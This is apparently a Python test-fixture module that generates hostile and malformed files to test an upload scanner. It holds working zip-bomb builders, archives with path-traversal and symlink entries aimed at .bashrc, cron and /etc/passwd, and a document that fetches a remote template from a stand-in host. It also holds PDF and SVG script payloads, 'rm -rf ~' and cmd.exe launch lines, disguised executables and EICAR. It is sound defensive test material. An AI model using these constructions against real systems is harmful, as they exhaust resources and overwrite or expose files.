"""Files made to deceive, or that came damaged, and some that are neither; built when asked.

`fixtures/hostile_files.csv` says what becomes of each. None is in the repository: some would be put
away by the virus scanner of whoever fetches it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field

from PIL import Image

from appliance.demo import cast
from tests.clamd import eicar

OOXML = "application/vnd.openxmlformats-officedocument."
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>{}</Types>'
)
VBA_TYPE = (
    '<Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
)
RELATION = (
    '<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/{}" Target="{}" TargetMode="{}"/></Relationships>'
)
MZ = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + bytes(200)
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60)
NOISE = bytes((n * 167 + n * n * 31) % 251 for n in range(4000)).replace(b"PK", b"..")


@dataclass(frozen=True)
class Raw:
    """An entry of an archive that is written as it is told, true or not."""

    name: str
    data: bytes = b""
    method: int = 0
    size: int = 0
    crc: int = 0
    flags: int = 0
    mode: int = 0
    said_before: dict[str, int] = field(default_factory=dict)  # what its own header says instead


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


def zeros(megabytes: int) -> tuple[bytes, int, int]:
    """So many megabytes of nothing: deflated, their check sum, their size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    one = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(bytes(1_000_000), crc)
    return one * megabytes + packer.flush(), crc, megabytes * 1_000_000


def header(entry: Raw) -> bytes:
    said = {"flags": entry.flags, "method": entry.method, "size": entry.size} | entry.said_before
    name = entry.name.encode()
    return (
        struct.pack("<4s5H", b"PK\3\4", 20, said["flags"], said["method"], 0, 33)
        + struct.pack("<3L2H", entry.crc, len(entry.data), said["size"], len(name), 0)
        + name
    )


def listed(entry: Raw, at: int, packed: int | None = None) -> bytes:
    name = entry.name.encode()
    length = len(entry.data) if packed is None else packed
    return (
        struct.pack("<4s6H", b"PK\1\2", 0x314, 20, entry.flags, entry.method, 0, 33)
        + struct.pack(
            "<3L5H2L", entry.crc, length, entry.size, len(name), 0, 0, 0, 0, entry.mode << 16, at
        )
        + name
    )


def closed(body: bytes, directory: Iterable[bytes], before: int = 0) -> bytes:
    lines = list(directory)
    total = b"".join(lines)
    at = len(body) - before
    return (
        body
        + total
        + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, len(lines), len(lines), len(total), at, 0)
    )


def raw_zip(*entries: Raw) -> bytes:
    body, directory = b"", []
    for entry in entries:
        directory.append(listed(entry, len(body)))
        body += header(entry) + entry.data
    return closed(body, directory)


def stored(name: str, data: bytes = b"x", **values: int) -> Raw:
    return Raw(name, data, 0, len(data), zlib.crc32(data), **values)


def plain_zip(files: dict[str, bytes | str]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return made.getvalue()


def office(files: dict[str, bytes | str], types: str | bytes = TYPES.format("")) -> bytes:
    return plain_zip({"[Content_Types].xml": types, "_rels/.rels": "<Relationships/>", **files})


def docx(**more: bytes | str) -> bytes:
    parts = {name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()}
    return office({"word/document.xml": "<w:document/>" * 50, **parts})


def ole(*streams: str, first: bytes = b"") -> bytes:
    """A file of Office before 2007: a header, a first block and a directory of these names."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<4H", 0x3E, 3, 0xFFFE, 9)
    head = head.ljust(512, b"\0")
    directory = b""
    for name in ("Root Entry", *streams):
        spelt = name.encode("utf-16-le") + b"\0\0"
        directory += spelt.ljust(64, b"\0") + struct.pack("<H", len(spelt)) + bytes(62)
    return head + first.ljust(512, b"\0") + directory.ljust(2048, b"\0")


def pdf_with(*objects: bytes, trailer: bytes = b"") -> bytes:
    """The sample PDF with more objects in it."""
    whole = cast.pdf("ACTE")
    at = whole.index(b"xref\n")
    more = b"".join(b"%d 0 obj\n%s\nendobj\n" % (90 + n, each) for n, each in enumerate(objects))
    changed = whole[:at] + more + whole[at:]
    return changed.replace(b"trailer <<", b"trailer << " + trailer, 1)


def packed_objects(text: bytes) -> bytes:
    data = zlib.compress(text)
    about = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>" % len(data)
    return about + b"\nstream\n" + data + b"\nendstream"


def picture(kind: str, size: tuple[int, int] = (60, 40)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 80).convert("RGB").save(out, kind)
    return out.getvalue()


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
        )

    size = struct.pack(">LL5B", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def commented_jpeg(comment: bytes) -> bytes:
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + whole[2:]


def box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", 8 + len(data)) + kind + data


def film() -> bytes:
    return (
        box(b"ftyp", b"isom\0\0\2\0isomavc1mp41")
        + box(b"moov", bytes(90))
        + box(b"mdat", bytes(900))
    )


def huge_jpeg() -> bytes:
    whole = bytearray(picture("JPEG"))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", 60000, 60000)
    return bytes(whole)


def bomb_flat() -> bytes:
    data, crc, size = zeros(300)
    return raw_zip(Raw("piece.pdf", data, 8, size, crc))


def bomb_dense() -> bytes:
    data, crc, size = zeros(40)
    return raw_zip(stored("lisez-moi.txt", NOISE), Raw("piece.bmp", data, 8, size, crc))


def bomb_docx() -> bytes:
    data, crc, size = zeros(250)
    types = stored("[Content_Types].xml", TYPES.format("").encode())
    return raw_zip(types, stored("word/document.xml"), Raw("word/media/a.emf", data, 8, size, crc))


def bomb_nested() -> bytes:
    """Like 42.zip: sixteen archives in each, five deep, and nothing at the end of it."""
    data, crc, size = zeros(4)
    inner = raw_zip(Raw("0.dll", data, 8, size, crc))
    for _ in range(4):
        inner = plain_zip({f"lib {n:x}.zip": inner for n in range(16)})
    return inner


def bomb_one_kernel() -> bytes:
    """Every line of the list is the same entry."""
    data, crc, size = zeros(9)
    first = Raw("0.txt", data, 8, size, crc)
    body = header(first) + data
    return closed(body, (listed(Raw(f"{n}.txt", data, 8, size, crc), 0) for n in range(30)))


def bomb_quoted() -> bytes:
    """Fifield's: each entry quotes the header of the next one, and then is the next one."""
    data, crc, size = zeros(9)
    content, entries = bytes(size), [Raw("29", data, 8, size, crc)]
    body = header(entries[0]) + data
    for n in reversed(range(29)):
        quoted = header(entries[0])
        block = b"\0" + struct.pack("<2H", len(quoted), len(quoted) ^ 0xFFFF)
        content = quoted + content
        packed = block + body
        entries.insert(0, Raw(str(n), packed, 8, len(content), zlib.crc32(content)))
        body = header(entries[0]) + packed
    directory, at = [], 0
    for entry in entries:
        directory.append(listed(entry, at))
        at += len(header(entry)) + 5
    return closed(body, directory)


def crowd() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for n in range(100_000):
            archive.writestr(zipfile.ZipInfo(f"{n}.txt"), b"")
    return made.getvalue()


def behind(front: bytes, files: dict[str, bytes | str]) -> bytes:
    """An archive behind something else, its list aware of it."""
    made = io.BytesIO()
    made.write(front)
    with zipfile.ZipFile(made, "a") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return made.getvalue()


def understated() -> bytes:
    data, crc, _ = zeros(40)
    return raw_zip(Raw("piece.txt", data, 8, 100, crc))


def lying() -> bytes:
    data, crc, size = zeros(40)
    return raw_zip(Raw("piece.txt", data, 8, 60_000, crc, said_before={"size": size}))


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
HTML = b"<!DOCTYPE html><html><body><script>location='https://faux.example'</script></body></html>"
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
EMBEDDED = b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream"
PHOTO = cast.photo("BAIL")

FILES: dict[str, Callable[[], bytes]] = {
    "docm-as-docx": lambda: docx(word__vbaProject_dot_bin=NOISE),
    "xlsm": lambda: office({"xl/workbook.xml": "<x/>", "xl/vbaProject.bin": NOISE}),
    "macro-by-another-name": lambda: office(
        {"word/document.xml": "<w/>", "word/data.bin": NOISE}, TYPES.format(VBA_TYPE)
    ),
    "macro-types-in-utf16": lambda: office(
        {"word/document.xml": "<w/>", "word/data.bin": NOISE},
        TYPES.format(VBA_TYPE).encode("utf-16"),
    ),
    "macro-sheet": lambda: office({"xl/workbook.xml": "<x/>", "xl/macrosheets/sheet1.xml": "<m/>"}),
    "active-x": lambda: docx(word__activeX__activeX1_dot_bin=NOISE),
    "doc-with-macros": lambda: ole("Macros", "VBA", "_VBA_PROJECT", "WordDocument"),
    "doc-with-package": lambda: ole("ObjectPool", "\x01Ole10Native", "WordDocument"),
    "docx-fetches-template": lambda: docx(
        word___rels__settings_dot_xml_dot_rels=RELATION.format(
            "attachedTemplate", "https://faux.example/a.dotm", "External"
        )
    ),
    "docx-with-object": lambda: docx(word__embeddings__oleObject1_dot_bin=ole("\x01Ole10Native")),
    "rtf-with-object": lambda: b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105000002000000}}}",
    "zip-locked": lambda: raw_zip(stored("releve.pdf", NOISE, flags=1)),
    "docx-locked": lambda: ole("EncryptionInfo", "EncryptedPackage"),
    "doc-locked": lambda: ole("WordDocument", first=b"\xec\xa5\xc1\0" + bytes(7) + b"\x01"),
    "pdf-locked": lambda: pdf_with(
        b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 >>", trailer=b" /Encrypt 90 0 R"
    ),
    "pdf-script": lambda: pdf_with(JS_ACTION),
    "pdf-script-spelt-otherwise": lambda: pdf_with(JS_ACTION.replace(b"/Java", b"/J#61v#61")),
    "pdf-script-packed": lambda: pdf_with(packed_objects(b"91 0 " + JS_ACTION)),
    "pdf-launch": lambda: pdf_with(b"<< /S /Launch /F (cmd.exe) >>"),
    "pdf-with-files": lambda: pdf_with(EMBEDDED),
    "pdf-cut": lambda: cast.pdf("ACTE")[:500],
    "pdf-magic-only": lambda: b"%PDF-1.7\n",
    "jpeg-cut": lambda: PHOTO[: len(PHOTO) // 2],
    "jpeg-magic-only": lambda: b"\xff\xd8\xff",
    "png-cut": lambda: picture("PNG")[:-40],
    "png-magic-only": lambda: b"\x89PNG\r\n\x1a\n",
    "gif-cut": lambda: picture("GIF")[:-60].rstrip(b";") + bytes(20),
    "webp-cut": lambda: picture("WEBP")[:-30],
    "mp4-cut": lambda: film()[:-100],
    "zip-cut": lambda: plain_zip({"a.pdf": cast.pdf("A"), "b.pdf": cast.pdf("B")})[:-60],
    "docx-cut": lambda: docx()[:200],
    "zip-magic-only": lambda: b"PK\3\4",
    "png-huge": lambda: png(50_000, 50_000),
    "jpeg-huge": huge_jpeg,
    "bomb-flat": bomb_flat,
    "bomb-dense": bomb_dense,
    "bomb-docx": bomb_docx,
    "bomb-nested": bomb_nested,
    "bomb-one-kernel": bomb_one_kernel,
    "bomb-quoted": bomb_quoted,
    "zip-crowded": crowd,
    "zip-dot-dot": lambda: raw_zip(stored("pieces/../../../.bashrc")),
    "zip-absolute": lambda: raw_zip(stored("/etc/cron.d/a")),
    "zip-drive": lambda: raw_zip(stored("C:\\Windows\\a.txt")),
    "zip-link": lambda: raw_zip(stored("piece.pdf", b"/etc/passwd", mode=0o120777)),
    "zip-lies": lying,
    "zip-understates": understated,
    "zip-with-exe": lambda: plain_zip({"facture.pdf.exe": MZ}),
    "zip-with-shortcut": lambda: plain_zip({"photos/IMG_1.jpg.lnk": LNK}),
    "zip-with-iso": lambda: plain_zip({"dossier.iso": NOISE}),
    "pdf-and-zip": lambda: behind(cast.pdf("ACTE"), {"piece.docx": docx()}),
    "jpeg-and-zip": lambda: behind(PHOTO, {"piece.exe": MZ}),
    "zip-behind-junk": lambda: plain_zip({"a.pdf": cast.pdf("A")}) + NOISE,
    "jpeg-and-pdf": lambda: commented_jpeg(cast.pdf("ACTE")[:300]),
    "gif-and-html": lambda: (
        picture("GIF")[:-1] + b"!\xfe\x40/*<script>alert(1)</script>*/".ljust(67, b" ") + b"\0;"
    ),
    "exe-as-pdf": lambda: MZ,
    "exe-two-endings": lambda: MZ,
    "exe-with-zip": lambda: behind(MZ, {"a.txt": "a"}),
    "elf": lambda: b"\x7fELF\2\1\1" + bytes(90),
    "shortcut": lambda: LNK,
    "svg-script": lambda: SVG,
    "svg-utf16": lambda: SVG.decode().encode("utf-16"),
    "html": lambda: HTML,
    "html-as-pdf": lambda: HTML,
    "script-js": lambda: b"WScript.CreateObject('WScript.Shell').Run('calc');",
    "script-shell": lambda: b"#!/bin/sh\nrm -rf ~\n",
    "jar": lambda: plain_zip({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": NOISE}),
    "pdf-corrupt-head": lambda: b"\1\2\3\4" + cast.pdf("ACTE")[9:].replace(b"%PDF-", b""),
    "png-as-docx": lambda: picture("PNG"),
    "pdf-declared-jpeg": lambda: cast.pdf("ACTE"),
    "pdf-named-exe": lambda: cast.pdf("ACTE"),
    "noise": lambda: NOISE,
    "eicar": eicar,
    "eicar-com": eicar,
    "eicar-in-zip": lambda: plain_zip({"lettre.txt": eicar()}),
    "innocent-pdf": lambda: cast.pdf("ACTE"),
    "innocent-photo": lambda: PHOTO,
    "innocent-png": lambda: picture("PNG"),
    "innocent-gif": lambda: picture("GIF"),
    "innocent-webp": lambda: picture("WEBP"),
    "innocent-motion-photo": lambda: PHOTO + film(),
    "innocent-film": film,
    "innocent-docx": docx,
    "innocent-docx-with-link": lambda: docx(
        word___rels__document_dot_xml_dot_rels=RELATION.format(
            "hyperlink", "https://justice.gov.tn", "External"
        )
    ),
    "innocent-xlsx-in-docx": lambda: docx(word__embeddings__Feuille1_dot_xlsx=docx()),
    "innocent-zip": lambda: plain_zip({"1.pdf": cast.pdf("1"), "dossier/2.jpg": PHOTO}),
    "innocent-blank-page": lambda: plain_zip({"page.bmp": bytes(900_000)}),
    "innocent-doc": lambda: ole("WordDocument", first=b"\xec\xa5\xc1\0"),
    "innocent-csv": lambda: b"client;montant\nBen Youssef;120\n",
    "innocent-text": "عقد الإيجار\n".encode,
    "innocent-voice": lambda: b"OggS\0\2" + bytes(22) + b"OpusHead" + bytes(200),
    "innocent-heic-renamed": lambda: PHOTO,
}
